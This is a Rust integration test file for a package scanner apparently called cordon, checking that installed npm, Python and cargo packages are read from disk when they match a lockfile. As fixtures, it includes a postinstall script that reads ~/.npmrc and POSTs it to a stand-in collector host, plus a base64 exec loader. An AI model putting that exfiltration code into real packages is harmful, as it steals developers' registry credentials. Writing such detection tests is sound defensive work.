//! Packages already on disk beside a lockfile are read instead of
//! downloaded when they match: an npm package in `node_modules`, a
//! Python distribution in a venv's `site-packages`, a `.crate` in
//! cargo's download cache. The fake registry serves nothing unless a
//! test says so, so that a download shows as an error.

#[path = "../../cordon-registry/tests/support/mod.rs"]
mod fake;
mod registry_support;
mod support;

use std::path::Path;

use cordon_registry::{Algorithm, Digest};
use fake::FakeRegistry;
use registry_support::{entry, publish_crate, registry_flags};
use serde_json::{Value, json};
use support::Run;

const HOSTILE_SETUP: &str = "const https = require('https');\n\
const fs = require('fs');\n\
const os = require('os');\n\
const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n\
https.request('https://collector.example.invalid/u', {method: 'POST'}).end(t);\n";

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// `cordon scan --format json` in `dir` with `extra` environment.
fn scan(dir: &Path, registry: &FakeRegistry, env: &[(&str, &Path)]) -> Run {
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_cordon"));
    command
        .args(["scan", "--format", "json", "--no-cache", "--debug"])
        .args(["--fetch-timeout", "5"])
        .args(registry_flags(registry))
        .current_dir(dir)
        .env_remove("CORDON_LOG");
    for (name, value) in env {
        command.env(name, value);
    }
    let output = command.output().unwrap();
    Run {
        command: "cordon scan".to_string(),
        code: output.status.code(),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    }
}

#[test]
fn an_installed_npm_package_of_the_pinned_version_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let registry = FakeRegistry::start();
    let lock = json!({
        "name": "app", "lockfileVersion": 3,
        "packages": {
            "": {"name": "app"},
            "node_modules/pad": {"version": "1.0.0",
                "integrity": Digest::of(Algorithm::Sha512, b"x").to_sri()},
            "node_modules/other": {"version": "2.0.0"},
        },
    });
    write(&dir.path().join("package-lock.json"), &lock.to_string());
    let pad = dir.path().join("node_modules/pad");
    write(
        &pad.join("package.json"),
        r#"{"name": "pad", "version": "1.0.0",
            "scripts": {"postinstall": "node setup.js"}}"#,
    );
    write(&pad.join("setup.js"), HOSTILE_SETUP);
    // Another version installed than the one pinned: not used.
    let other = dir.path().join("node_modules/other/package.json");
    write(&other, r#"{"name": "other", "version": "1.9.0"}"#);

    let run = scan(dir.path(), &registry, &[]);
    assert_eq!(run.code, Some(1), "{run}");
    let report = run.json();
    let pad = entry(&report, "npm:pad@1.0.0");
    assert_ne!(pad["verdict"], "clean", "{pad:#}");
    assert!(pad["error"].is_null());
    let source = pad["source"].as_str().unwrap();
    assert!(source.starts_with("package-lock.json; read from disk at "));
    assert!(source.ends_with("node_modules/pad"), "{source}");
    let other = entry(&report, "npm:other@2.0.0");
    assert!(
        other["error"].as_str().unwrap().contains("no such package"),
        "{other:#}"
    );
}

/// A venv's `site-packages` holding `evil 1.0` with a RECORD; returns
/// the module's path.
fn venv(project: &Path, module: &str) -> std::path::PathBuf {
    let site = project.join(".venv/lib/python3.12/site-packages");
    let info = site.join("evil-1.0.dist-info");
    let metadata = "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n";
    write(&info.join("METADATA"), metadata);
    let init = site.join("evil/__init__.py");
    write(&init, module);
    // RECORD writes SHA-256 as unpadded URL-safe base64.
    let hash = |text: &str| {
        let sri = Digest::of(Algorithm::Sha256, text.as_bytes()).to_sri();
        let base64 = sri.trim_start_matches("sha256-").trim_end_matches('=');
        base64.replace('+', "-").replace('/', "_")
    };
    let record = format!(
        "evil/__init__.py,sha256={},{}\n\
         evil-1.0.dist-info/METADATA,sha256={},{}\n\
         evil-1.0.dist-info/RECORD,,\n\
         ../../../bin/evil-tool,sha256=AAAA,1\n",
        hash(module),
        module.len(),
        hash(metadata),
        metadata.len()
    );
    write(&info.join("RECORD"), &record);
    init
}

#[test]
fn a_venv_distribution_that_matches_its_record_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let registry = FakeRegistry::start();
    write(&dir.path().join("requirements.txt"), "evil==1.0\n");
    let module = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    let init = venv(dir.path(), module);

    let run = scan(dir.path(), &registry, &[]);
    assert_eq!(run.code, Some(1), "{run}");
    let evil = entry(&run.json(), "pypi:evil==1.0").clone();
    assert_ne!(evil["verdict"], "clean", "{evil:#}");
    let source = evil["source"].as_str().unwrap();
    assert!(source.contains("read from disk at"), "{source}");
    assert!(source.ends_with("evil-1.0.dist-info"), "{source}");
    let paths: Vec<&str> = evil["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["path"].as_str())
        .collect();
    assert!(paths.contains(&"evil/__init__.py"), "{paths:?}");

    // A file changed after installation no longer matches its RECORD:
    // the copy is not used, and the registry (which has nothing) is.
    std::fs::write(&init, "VALUE = 2\n").unwrap();
    let run = scan(dir.path(), &registry, &[]);
    let evil = entry(&run.json(), "pypi:evil==1.0").clone();
    assert!(evil["error"].as_str().unwrap().contains("no such package"));
    assert!(run.stderr.contains("differs from its RECORD"), "{run}");
}

#[test]
fn a_cached_crate_with_the_lockfile_checksum_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let registry = FakeRegistry::start();
    let cached = fake::crate_file("itoa", "1.0.11");
    let cargo_home = dir.path().join("cargo-home");
    let cache =
        cargo_home.join("registry/cache/index.crates.io-0123456789abcdef");
    std::fs::create_dir_all(&cache).unwrap();
    std::fs::write(cache.join("itoa-1.0.11.crate"), &cached).unwrap();
    // In the cache but with other bytes than the lockfile pins.
    std::fs::write(cache.join("ryuu-1.0.0.crate"), b"other bytes").unwrap();
    publish_crate(&registry, "ryuu", "1.0.0");
    let ryuu = fake::crate_file("ryuu", "1.0.0");

    let package = |name: &str, version: &str, bytes: &[u8]| {
        format!(
            "[[package]]\nname = \"{name}\"\nversion = \"{version}\"\n\
             source = \"registry+https://github.com/rust-lang/crates.io-index\"\n\
             checksum = \"{}\"\n\n",
            Digest::of(Algorithm::Sha256, bytes).hex()
        )
    };
    let lock = format!(
        "version = 3\n\n{}{}",
        package("itoa", "1.0.11", &cached),
        package("ryuu", "1.0.0", &ryuu)
    );
    write(&dir.path().join("Cargo.lock"), &lock);

    let run = scan(dir.path(), &registry, &[("CARGO_HOME", &cargo_home)]);
    assert_eq!(run.code, Some(0), "{run}");
    let report = run.json();
    let itoa = entry(&report, "crates:itoa@1.0.11");
    assert_eq!(itoa["verdict"], "clean", "{itoa:#}");
    let source = itoa["source"].as_str().unwrap();
    assert!(source.ends_with("itoa-1.0.11.crate"), "{source}");
    let fetched: &Value = entry(&report, "crates:ryuu@1.0.0");
    assert_eq!(fetched["verdict"], "clean", "{fetched:#}");
    assert_eq!(fetched["source"], "Cargo.lock", "downloaded, not read");
    let downloads: Vec<String> = registry
        .requests()
        .into_iter()
        .map(|(path, _)| path)
        .filter(|path| path.starts_with("/crates/"))
        .collect();
    assert_eq!(downloads, ["/crates/ryuu/ryuu-1.0.0.crate"]);
}
